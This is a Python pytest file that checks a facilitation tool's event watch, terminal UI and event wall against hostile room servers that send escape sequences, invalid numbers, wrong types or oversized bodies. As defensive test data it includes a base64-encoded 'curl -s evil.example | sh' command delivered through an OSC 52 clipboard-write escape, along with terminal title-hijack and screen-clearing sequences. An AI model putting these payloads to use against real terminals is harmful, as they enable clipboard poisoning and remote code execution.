"""A room is a stranger on the network to the organiser's laptop. Rooms that answer with
terminal escapes, numbers that are not finite or out of range, or values of the wrong type, on
127.0.0.1 beside a real room: nothing from them reaches the terminal or the event wall
uncleaned, each shows as broken with a short reason, and the watch, its TUI, the wall and the
real room go on."""

from __future__ import annotations

import asyncio
import base64
import copy
import io
import re
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import orjson
import pytest
from aiohttp import web
from event_sessions import RoomFixture, fill_room, template_of
from rich.console import Console
from textual.widgets import DataTable, Static

from facilitator.event.wall import EventWall
from facilitator.event.watch import (
    MAX_SUMMARY_BYTES,
    EventWatch,
    RoomState,
    RoomWatch,
    overview,
    parse_link,
    room_clock,
)
from facilitator.serving import listen
from facilitator.session.store import SessionStore
from facilitator.tui.event_watch import EventWatchApp, across_view, room_cells
from facilitator.tui.i18n import set_language
from facilitator.web.server import ParticipantServer

PASTE = base64.b64encode(b"curl -s evil.example | sh\n").decode()
ESCAPES = {
    "title": "\x1b]0;ROOM OWNS YOUR TITLE\x07Zaal X",  # OSC 0: the window title
    "place": "\x1b]2;and the icon\x1b\\Hal 2",  # OSC 2, ended by ST
    "clipboard": f"\x1b]52;c;{PASTE}\x07Knelpunt",  # OSC 52: the clipboard
    "clear": "\x1b[2J\x1b[3J\x1b[HSchoon scherm",  # clear the screen and scrollback
    "c1": "\x9d0;C1 OSC\x9cen CSI \x9b2J",  # the same in C1 controls
    "bell": "Bel\x07\x07\x07 en backspace\x08\x08",
}
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
"""What no string from a room may keep (a newline in a contribution is fine)."""


@pytest.fixture
async def real_room(tmp_path: Path) -> AsyncIterator[ParticipantServer]:
    store = SessionStore.create(tmp_path / "zaal-a.json", template_of("a"),
                                session_id="zaal-a", title="Zaal A", lang="nl",
                                join_token="join-token-room-a-0123")
    await fill_room(store, "a", RoomFixture("a", store.path, "zaal-a"))
    await store.go_to_round(1)  # its timer runs: the summary has a remaining_s
    server = ParticipantServer(store, host="127.0.0.1", port=0)
    await server.start()
    try:
        yield server
    finally:
        await server.stop()
        await store.close()


@dataclass
class Answer:
    body: bytes
    headers: dict[str, str]
    chunked: bool = False


class HostileRooms:
    """Rooms on one aiohttp server on 127.0.0.1: ``/o/<name>`` answers what the test set."""

    def __init__(self) -> None:
        self.answers: dict[str, Answer] = {}
        self.app = web.Application()
        self.app.add_routes([web.get("/o/{name}", self.summary)])
        self.runner = web.AppRunner(self.app, access_log=None)
        self.port = 0

    async def summary(self, request: web.Request) -> web.StreamResponse:
        answer = self.answers[request.match_info["name"]]
        if not answer.chunked:
            return web.Response(body=answer.body, headers=answer.headers,
                                content_type="application/json")
        response = web.StreamResponse(headers=answer.headers)  # no Content-Length to go by
        response.enable_chunked_encoding()
        await response.prepare(request)
        for start in range(0, len(answer.body), 1 << 16):
            await response.write(answer.body[start:start + (1 << 16)])
        await response.write_eof()
        return response

    def link(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/o/{name}"

    async def __aenter__(self) -> HostileRooms:
        await self.runner.setup()
        self.listening, self.port = await listen(self.runner, "127.0.0.1", 0)
        return self

    async def __aexit__(self, *exc: object) -> None:
        self.listening.close()
        await self.runner.cleanup()


async def _real_summary(server: ParticipantServer) -> tuple[dict[str, Any], str]:
    assert server.organiser_url is not None
    async with aiohttp.ClientSession() as client, client.get(server.organiser_url) as response:
        return orjson.loads(await response.read()), response.headers["X-Room-Clock"]


def _escaped(summary: dict[str, Any]) -> dict[str, Any]:
    """The real room's summary with an escape sequence in every kind of string it has."""
    hostile = copy.deepcopy(summary)
    hostile["session_id"] = "zaal-x\x1b]0;id\x07"
    hostile["title"] = ESCAPES["title"]
    hostile["place"] = ESCAPES["place"]
    hostile["template_title"] = {"nl": ESCAPES["c1"], "en": ESCAPES["c1"]}
    rounds = hostile["rounds"]
    knelpunten = next(r for r in rounds if r["kind"] == "bottleneck")
    knelpunten["top"][0]["text"] = ESCAPES["clipboard"]
    knelpunten["top"][1]["text"] = ESCAPES["clear"] + "\nop twee regels"
    knelpunten["top"][0]["theme"] = ESCAPES["bell"]
    knelpunten["top"][1]["group"] = "municipality\x1b[2J"
    knelpunten["themes"][0]["name"] = ESCAPES["clear"]
    knelpunten["title"] = {"nl": ESCAPES["title"], "en": ESCAPES["title"]}
    hostile["now"]["title"] = {"nl": ESCAPES["clear"], "en": ESCAPES["clear"]}
    group = hostile["groups"][0]
    group["name"] = {"nl": ESCAPES["clipboard"], "en": ESCAPES["clipboard"]}
    group["missing"] = True
    group["present"] = 0
    hostile["flags"] = [["missing_group\x1b]0;x\x07", group["id"]]]
    hostile["recent_actions"] = [{"text": ESCAPES["clipboard"], "owner": ESCAPES["title"],
                                  "due": "2027\x1b[2J"}]
    # the rankings across groups (version 2): an item's text and a group's id
    knelpunten["carried"]["standing"] = "ranked"
    knelpunten["carried"]["items"] = [_across_item(ESCAPES["clipboard"])]
    knelpunten["differ"]["standing"] = "ranked"
    knelpunten["differ"]["items"] = [{**_across_item(ESCAPES["clear"]),
                                      "highest": "municipality\x1b]0;x\x07",
                                      "support": [{"group": "municipality\x1b]0;x\x07",
                                                   "share": 0.8},
                                                  {"group": "_pool", "share": 0.2}]}]
    return hostile


def _across_item(text: str) -> dict[str, Any]:
    """One item of a ranking across groups, as a room's summary (version 2) carries it."""
    return {"id": 1, "text": text, "rank": 1, "tied": False, "value": 0.5,
            "support": [{"group": "municipality", "share": 0.8},
                        {"group": "_pool", "share": 0.6}],
            "highest": "municipality", "lowest": "_pool"}


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, list | tuple):
        return [s for v in value for s in _strings(v)]
    return []


def _shown(renderable: Any) -> str:
    console = Console(width=200, record=True, file=io.StringIO())
    console.print(renderable)
    return console.export_text()


async def until(condition: Callable[[], bool], timeout: float = 15.0) -> None:
    async def wait() -> None:
        while not condition():
            await asyncio.sleep(0.05)

    await asyncio.wait_for(wait(), timeout)


def test_a_room_clock_must_be_a_time() -> None:
    assert room_clock("1795430000.125") == 1795430000.125
    for wrong in ("nan", "NaN", "-1e999", "1e400", "inf", "-inf", "", "soon", "-5", "0",
                  "1" + "0" * 400, "5e9"):
        assert room_clock(wrong) is None, wrong


async def test_escapes_from_a_room_never_reach_the_terminal_or_the_wall(
        real_room: ParticipantServer) -> None:
    summary, clock = await _real_summary(real_room)
    async with HostileRooms() as hostile:
        hostile.answers["escapes"] = Answer(orjson.dumps(_escaped(summary)),
                                            {"X-Room-Clock": clock, "ETag": "W/ not a tag"})
        watch = EventWatch([real_room.organiser_url or "", hostile.link("escapes")],
                           interval=0.1)
        wall = EventWall(watch, title="Dag", lang="en", host="127.0.0.1", port=0)
        await watch.start()
        await wall.start()
        try:
            await until(lambda: all(r.state is RoomState.ONLINE for r in watch.rooms))
            room = watch.rooms[1]
            assert room.summary is not None
            strings = _strings(room.summary.model_dump(mode="json"))
            # The escapes' controls are gone; their printable rest is harmless text.
            assert room.summary.title == "]0;ROOM OWNS YOUR TITLEZaal X"
            assert room.summary.place == "]2;and the icon\\Hal 2"
            assert [s for s in strings if CONTROL.search(s)] == []
            assert room.etag == ""  # not an entity tag: never sent back in a header
            picture = watch.overview()
            shown = "".join(_shown(cell) for r in watch.rooms
                            for cell in room_cells(r, watch.clock()))
            shown += _shown(across_view(picture))
            assert "Knelpunt" in shown
            assert "Carried by every group" in shown and "Schoon scherm" in shown
            assert not CONTROL.search(shown.replace("\n", ""))
            async with aiohttp.ClientSession() as client:
                for url in (wall.url, f"{wall.url}/part"):
                    async with client.get(url) as response:
                        html = await response.text()
                    assert "Zaal X" in html and not CONTROL.search(html.replace("\n", ""))
                    assert "Schoon scherm" in html  # the room's ranking across groups
        finally:
            await wall.stop()
            await watch.stop()


def _set(summary: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(summary)
    *parents, last = path.split(".")
    target: Any = changed
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]
    target[int(last) if isinstance(target, list) else last] = value
    return changed


def _raw(summary: dict[str, Any], path: str, literal: str) -> bytes:
    """The summary with a JSON literal orjson would not write (NaN, 1e400, 10**400)."""
    marker = "__literal__"
    return orjson.dumps(_set(summary, path, marker)).replace(f'"{marker}"'.encode(),
                                                             literal.encode())


def _bad_rooms(summary: dict[str, Any], clock: str) -> dict[str, tuple[Answer, str]]:
    """Each hostile answer, and what its reason must name."""
    good = orjson.dumps(summary)
    voted = next(n for n, r in enumerate(summary["rounds"]) if r["top"])
    top = f"rounds.{voted}.top.0"

    def json(changed: dict[str, Any]) -> bytes:
        return orjson.dumps(changed)

    def raw(path: str, literal: str) -> bytes:
        return _raw(summary, path, literal)

    with_clock = {"X-Room-Clock": clock}
    carried = f"rounds.{voted}.carried"
    ranked = _set(summary, f"{carried}.items", [_across_item("Samen")])
    return {
        "share-above-one": (Answer(json(_set(ranked, f"{carried}.items.0.support.0.share",
                                             1.5)), with_clock), "share"),
        "value-nan": (Answer(_raw(ranked, f"{carried}.items.0.value", "NaN"), with_clock),
                      "value"),
        "standing-unknown": (Answer(json(_set(summary, f"{carried}.standing", "loudest")),
                                    with_clock), "standing"),
        "across-too-long": (Answer(json(_set(summary, f"{carried}.items",
                                             [_across_item("x")] * 11)), with_clock),
                            "items"),
        "gini-above-one": (Answer(json(_set(summary, "voice.gini", 2.0)), with_clock), "gini"),
        "cast-negative": (Answer(json(_set(summary, "groups.0.votes_cast", -3)), with_clock),
                          "votes_cast"),
        "version-3": (Answer(json(_set(summary, "version", 3)), with_clock), "version"),
        "highest-elsewhere": (Answer(json(_set(ranked, f"{carried}.items.0.highest",
                                               "funder")), with_clock), "highest"),
        "clock-nan": (Answer(good, {"X-Room-Clock": "nan"}), "X-Room-Clock"),
        "clock-minus-inf": (Answer(good, {"X-Room-Clock": "-1e999"}), "X-Room-Clock"),
        "clock-huge": (Answer(good, {"X-Room-Clock": "1e400"}), "X-Room-Clock"),
        "remaining-nan": (Answer(raw("now.remaining_s", "NaN"), with_clock), "remaining_s"),
        "remaining-huge": (Answer(raw("now.remaining_s", "1e400"), with_clock),
                           "remaining_s"),
        "remaining-minus-inf": (Answer(raw("now.remaining_s", "-1e999"), with_clock),
                                "remaining_s"),
        "built-nan": (Answer(raw("built_at", "NaN"), with_clock), "built_at"),
        "voters-huge": (Answer(raw(f"{top}.voters", str(10**400)), with_clock), "voters"),
        "votes-inf": (Answer(raw(f"{top}.votes", "Infinity"), with_clock), "votes"),
        "participants-negative": (Answer(json(_set(summary, "participants", -1)), with_clock),
                                  "participants"),
        "participants-text": (Answer(json(_set(summary, "participants", "30")), with_clock),
                              "participants"),
        "rank-true": (Answer(json(_set(summary, f"{top}.rank", True)), with_clock), "rank"),
        "title-number": (Answer(json(_set(summary, "title", 5)), with_clock), "title"),
        "rounds-object": (Answer(json(_set(summary, "rounds", {"0": 1})), with_clock),
                          "rounds"),
        "now-null": (Answer(json(_set(summary, "now", None)), with_clock), "now"),
        "escape-key": (Answer(json({**summary, "\x1b]0;key\x07": 1}), with_clock), "]0;key"),
        "not-json": (Answer(b"\x1b]52;c;" + PASTE.encode() + b"\x07", with_clock),
                     "Invalid JSON"),
        "too-big": (Answer(b" " * (MAX_SUMMARY_BYTES + 10) + good, with_clock), "MB"),
        "too-big-streamed": (Answer(b" " * (3 * MAX_SUMMARY_BYTES) + good, with_clock,
                                    chunked=True), "MB"),
    }


async def test_a_room_that_sends_what_is_not_a_summary_is_broken_and_harms_nothing(
        real_room: ParticipantServer) -> None:
    set_language("en")
    summary, clock = await _real_summary(real_room)
    bad = _bad_rooms(summary, clock)
    async with HostileRooms() as hostile:
        for name, (answer, _reason) in bad.items():
            hostile.answers[name] = answer
        links = [real_room.organiser_url or "", *(hostile.link(name) for name in bad)]
        watch = EventWatch(links, interval=0.1)
        wall = EventWall(watch, title="Dag", lang="en", host="127.0.0.1", port=0)
        app = EventWatchApp(watch, wall, title="Dag")
        async with app.run_test(size=(220, 60)) as pilot:
            await until(lambda: all(r.state is not RoomState.WAITING for r in watch.rooms))
            for _ in range(3):  # several pulls of each, and the screen redrawn between them
                await asyncio.gather(*(watch.pull(r) for r in watch.rooms))
                await pilot.pause(0.2)
            assert watch.rooms[0].state is RoomState.ONLINE
            reasons = {name: (room.state, room.problem)
                       for name, room in zip(bad, watch.rooms[1:], strict=True)}
            for name, (_answer, named) in bad.items():
                state, problem = reasons[name]
                assert state is RoomState.BROKEN, (name, state, problem)
                assert named in problem and len(problem) <= 160, (name, problem)
                assert not CONTROL.search(problem), (name, problem)
            table = app.query_one("#rooms", DataTable)
            assert table.get_cell("0", "state").plain == "online"
            for n, name in enumerate(bad, start=1):
                state = table.get_cell(str(n), "state").plain
                assert state.startswith("not a room summary ("), (name, state)
            across = _shown(app.query_one("#across", Static).content)
            assert f"1 of {len(bad) + 1} rooms online" in across
            assert wall is not None and app.wall is wall
            async with aiohttp.ClientSession() as client, client.get(wall.url) as response:
                html = await response.text()
            assert response.status == 200
            assert html.count("answers, but not with a room summary (") == len(bad)
            assert html.count('class="room online"') == 1
        assert app.return_code in (None, 0)


async def test_a_room_that_is_broken_once_is_followed_again(
        real_room: ParticipantServer) -> None:
    summary, clock = await _real_summary(real_room)
    async with HostileRooms() as hostile:
        hostile.answers["flaky"] = Answer(_raw(summary, "now.remaining_s", "NaN"),
                                          {"X-Room-Clock": clock})
        watch = EventWatch([hostile.link("flaky")], interval=0.05)
        await watch.start()
        try:
            room: RoomWatch = watch.rooms[0]
            await until(lambda: room.state is RoomState.BROKEN)
            hostile.answers["flaky"] = Answer(orjson.dumps(summary), {"X-Room-Clock": clock})
            await until(lambda: room.state is RoomState.ONLINE)
            assert room.summary is not None and room.summary.title == "Zaal A"
        finally:
            await watch.stop()


async def test_a_room_not_yet_updated_is_read_without_rankings_across_groups(
        real_room: ParticipantServer) -> None:
    """A version 1 summary (a room on the software before issue 22) is still a summary: the
    rankings across groups and whose voice are left empty, and the faces say nothing of them."""
    from facilitator.session.summary import read_summary

    summary, _clock = await _real_summary(real_room)
    assert summary["version"] == 2 and summary["voice"] is not None
    old = copy.deepcopy(summary)
    old["version"] = 1
    del old["voice"]
    for kept in old["rounds"]:
        for key in ("ranking", "carried", "differ"):
            del kept[key]
    for group in old["groups"]:
        del group["votes_cast"], group["invited"]
    read = read_summary(orjson.dumps(old))
    assert read.voice is None and all(r.carried is None for r in read.rounds)
    room = RoomWatch(link=parse_link("http://127.0.0.1:1/o/x"), summary=read)
    set_language("en")
    shown = _shown(across_view(overview([room], 0.0)))
    assert "Whose voice" not in shown and "Carried by every group" not in shown
